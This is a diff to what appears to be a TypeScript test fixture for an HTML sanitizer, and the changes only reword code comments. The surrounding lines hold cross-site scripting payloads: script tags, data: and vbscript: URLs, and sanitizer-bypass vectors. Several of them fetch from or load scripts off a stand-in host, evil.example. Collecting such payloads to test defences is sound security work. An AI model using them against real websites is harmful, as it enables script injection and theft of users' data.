@@ -1,4 +1,4 @@
-/** Each would say so here if it ran. */
+/** Sets a marker if it runs. */
 const RUN = "globalThis.owned=1;alert(1);fetch('https://evil.example/x')"
 const AWAY = 'https://evil.example/'
 
@@ -38,7 +38,10 @@ const addresses = [
   `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLm93bmVkPTE8L3NjcmlwdD4=`,
   `vbscript:${RUN}`,
 ]
-/** Known ways out of a cleaner: other name spaces, tables, templates, comments, names that hide what the page needs. */
+/**
+ * Known bypasses of sanitizers: other namespaces, tables, templates, comments, names that shadow those of the
+ * page.
+ */
 const vectors = [
   `<script>${RUN}</script>`,
   `<script src="${AWAY}x.js"></script>`,
@@ -98,7 +101,7 @@ const vectors = [
   `<a href="\\\\evil.example">x</a>`,
 ]
 
-/** What an operator's page, a nickname or an upstream could hold. */
+/** Texts that an operator's page, a nickname or an upstream could contain. */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...handlers.flatMap((handler, at) => {
     const [one = '', other = ''] = [carriers[at], carriers[(at + 3) % carriers.length]]
